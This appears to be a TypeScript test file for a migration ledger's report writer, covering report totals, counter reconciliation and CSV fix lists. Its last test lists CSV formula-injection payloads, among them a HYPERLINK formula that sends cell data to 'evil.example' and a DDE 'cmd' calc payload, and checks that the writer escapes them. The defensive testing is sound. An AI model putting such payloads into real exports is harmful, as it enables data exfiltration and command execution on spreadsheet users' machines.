import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { Ledger } from '../../../src/ledger/ledger.ts';
import { NO_OUTCOME_MESSAGE, type RunReport } from '../../../src/ledger/report.ts';
import { RunReportWriter } from '../../../src/ledger/report-writer.ts';
import { RunStore } from '../../../src/ledger/run-store.ts';
import { startTestTables, type TestTables } from '../../helpers/dynamodb.ts';
import { MemoryReportStore } from '../../helpers/report-store.ts';

const key = (externalRef: string, collection: 'projects' | 'connections' = 'connections') => ({ customer: 'acme', collection, externalRef });

describe('the run report written from the ledger (dynalite)', () => {
  let tables: TestTables;
  let ledger: Ledger;
  let runs: RunStore;

  before(async () => {
    tables = await startTestTables();
    ledger = new Ledger(tables.db, tables.names.ledger);
    runs = new RunStore(tables.db, tables.names.runs);
    await runs.startRun({
      customer: 'acme',
      runId: 'run-r',
      startedAt: '2026-01-01T00:00:00.000Z',
      status: 'RUNNING',
      options: { targetRps: 5 },
      databases: ['fp_acme_south', 'fp_acme_north'],
    });
    await runs.recordRange('acme', 'run-r', 'connections', 'fp_acme_north#r0#0', { source: 6, alreadyMigrated: 1, queued: 5 });
    const refs = [
      'fp_acme_north:addresses:1',
      'fp_acme_north:addresses:2',
      'fp_acme_north:addresses:3',
      'fp_acme_north:addresses:4',
      'fp_acme_south:addresses:5',
    ];
    await ledger.markQueued(
      'run-r',
      refs.map((externalRef) => ({ key: key(externalRef), sourceChecksum: 'c' })),
    );
    await ledger.recordOutcome(key(refs[0]!), 'run-r', { status: 'migrated', targetId: 'con_1' });
    await ledger.recordOutcome(key(refs[1]!), 'run-r', { status: 'failed', code: 'duplicate', message: 'same address' });
    await ledger.recordOutcome(key(refs[2]!), 'run-r', { status: 'skipped', code: 'completed_project', message: 'completed' });
    await ledger.recordOutcome(key(refs[4]!), 'run-r', {
      status: 'failed',
      code: 'invalid_value',
      field: 'address.postcode',
      value: '"12, 34 \\"ab\\""',
      message: 'postcode, "quoted"\nand a new line 🚧',
    });
    await runs.updateRun('acme', 'run-r', {
      status: 'SUCCEEDED',
      finishedAt: '2026-01-01T00:01:00.000Z',
      target: { workflowsRestored: true, emailRestored: true },
    });
  });
  after(async () => tables.close());

  it('writes report.json whose figures add up, with every failure (a record without an outcome included) in externalRef order', async () => {
    const store = new MemoryReportStore();
    const { keys, summary } = await new RunReportWriter(ledger, runs, store).write('acme', 'run-r');
    const report = JSON.parse(store.text(keys.json)) as RunReport;
    const connections = report.entities.connections;
    expect(connections).to.include({ source: 6, migrated: 1, alreadyMigrated: 1, skipped: 1, failed: 3 });
    expect(connections.source).to.equal(connections.migrated + connections.alreadyMigrated + connections.skipped + connections.failed);
    expect(connections.failures).to.deep.equal([
      { externalRef: 'fp_acme_north:addresses:2', code: 'duplicate', message: 'same address' },
      { externalRef: 'fp_acme_north:addresses:3', code: 'completed_project', message: 'completed' },
      { externalRef: 'fp_acme_north:addresses:4', code: 'transient_exhausted', message: NO_OUTCOME_MESSAGE },
      {
        externalRef: 'fp_acme_south:addresses:5',
        code: 'invalid_value',
        field: 'address.postcode',
        value: '"12, 34 \\"ab\\""',
        message: 'postcode, "quoted"\nand a new line 🚧',
      },
    ]);
    expect(report).to.include({ durationMs: 60_000, status: 'SUCCEEDED' });
    expect(report.target).to.deep.equal({ workflowsRestored: true, emailRestored: true });
    expect(report.entities.projects).to.deep.include({ source: 0, failures: [], groups: [] });
    expect(summary.entities.connections.groups.map((g) => [g.code, g.field, g.count])).to.deep.equal([
      ['completed_project', undefined, 1],
      ['duplicate', undefined, 1],
      ['invalid_value', 'address.postcode', 1],
      ['transient_exhausted', undefined, 1],
    ]);
    expect(
      report.throughput.outcomes.reduce((a, b) => a + b, 0),
      'outcomes over time',
    ).to.equal(4);
  });

  it("sets a finished run's live counters to the ledger's recount when a delivery stopped before counting, and says what it replaced; a second report finds them equal", async () => {
    const refs = ['fp_acme_north:addresses:11', 'fp_acme_north:addresses:12', 'fp_acme_north:addresses:13'];
    await runs.startRun({
      customer: 'acme',
      runId: 'run-s',
      startedAt: '2026-01-01T00:00:00.000Z',
      status: 'RUNNING',
      options: {},
      databases: ['fp_acme_north'],
    });
    await runs.recordRange('acme', 'run-s', 'connections', 'fp_acme_north#r0#0', { source: 3, alreadyMigrated: 0, queued: 3 });
    await ledger.markQueued(
      'run-s',
      refs.map((externalRef) => ({ key: key(externalRef), sourceChecksum: 'c' })),
    );
    for (const externalRef of refs) await ledger.recordOutcome(key(externalRef), 'run-s', { status: 'migrated', targetId: `con_${externalRef.slice(-2)}` });
    // The delivery of the third record was stopped after its ledger write: its counter never came.
    await runs.addOutcomes('acme', 'run-s', 'connections', { migrated: 2 });
    const store = new MemoryReportStore();

    const running = await new RunReportWriter(ledger, runs, store).write('acme', 'run-s');
    expect(running.settled, "a running run's consumers may still ADD: left alone").to.deep.equal([]);
    expect((await runs.progress('acme', 'run-s')).connections).to.include({ migrated: 2 });

    await runs.updateRun('acme', 'run-s', { status: 'SUCCEEDED', finishedAt: '2026-01-01T00:01:00.000Z' });
    const finished = await new RunReportWriter(ledger, runs, store).write('acme', 'run-s');
    expect(finished.settled).to.deep.equal([
      {
        collection: 'connections',
        live: { migrated: 2, updated: 0, unchanged: 0, failed: 0, skipped: 0 },
        ledger: { migrated: 3, updated: 0, unchanged: 0, failed: 0, skipped: 0 },
      },
    ]);
    expect((await runs.progress('acme', 'run-s')).connections).to.include({ source: 3, queued: 3, migrated: 3, failed: 0 });
    expect((await new RunReportWriter(ledger, runs, store).write('acme', 'run-s')).settled).to.deep.equal([]);
  });

  it('writes one CSV fix list per sub-project with every failed and skipped record, quoted so a spreadsheet reads it back exactly', async () => {
    const store = new MemoryReportStore();
    const { keys, summary } = await new RunReportWriter(ledger, runs, store).write('acme', 'run-r');
    expect(summary.fixLists).to.deep.equal([
      { database: 'fp_acme_north', file: 'fixlists/fp_acme_north.csv', records: 3 },
      { database: 'fp_acme_south', file: 'fixlists/fp_acme_south.csv', records: 1 },
    ]);
    expect(keys.fixLists).to.deep.equal(['reports/acme/run-r/fixlists/fp_acme_north.csv', 'reports/acme/run-r/fixlists/fp_acme_south.csv']);
    const south = parse(store.text(keys.fixLists[1]!), { columns: true }) as Record<string, string>[];
    expect(south).to.deep.equal([
      {
        sub_project: 'fp_acme_south',
        table: 'addresses',
        legacy_id: '5',
        external_ref: 'fp_acme_south:addresses:5',
        collection: 'connections',
        code: 'invalid_value',
        field: 'address.postcode',
        value: '"12, 34 \\"ab\\""',
        message: 'postcode, "quoted"\nand a new line 🚧',
      },
    ]);
    const north = parse(store.text(keys.fixLists[0]!), { columns: true }) as Record<string, string>[];
    expect(north.map((row) => [row.legacy_id, row.code])).to.deep.equal([
      ['2', 'duplicate'],
      ['3', 'completed_project'],
      ['4', 'transient_exhausted'],
    ]);
    expect(store.objects.get(keys.html)?.contentType).to.match(/^text\/html/);
    expect(store.text(keys.html)).to.include('fixlists/fp_acme_north.csv');
  });

  it('escapes every fix-list cell a spreadsheet would evaluate (starting with = + - @ tab or CR, OWASP): a legacy =HYPERLINK(...) is text', async () => {
    await runs.startRun({
      customer: 'acme',
      runId: 'run-f',
      startedAt: '2026-01-02T00:00:00.000Z',
      status: 'RUNNING',
      options: {},
      databases: ['fp_acme_west'],
    });
    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"fix me")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const refs = hostile.map((_, index) => `fp_acme_west:addresses:${index + 1}`);
    await ledger.markQueued(
      'run-f',
      refs.map((externalRef) => ({ key: key(externalRef), sourceChecksum: 'c' })),
    );
    for (const [index, value] of hostile.entries())
      await ledger.recordOutcome(key(refs[index]!), 'run-f', { status: 'failed', code: 'unmapped_status', field: 'status', value, message: value });
    await runs.updateRun('acme', 'run-f', { status: 'SUCCEEDED', finishedAt: '2026-01-02T00:01:00.000Z' });
    const store = new MemoryReportStore();
    const { keys } = await new RunReportWriter(ledger, runs, store).write('acme', 'run-f');
    const rows = parse(store.text(keys.fixLists[0]!), { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.value)).to.deep.equal(hostile.map((value) => `'${value}`));
    expect(rows.map((row) => row.message)).to.deep.equal(hostile.map((value) => `'${value}`));
  });
});
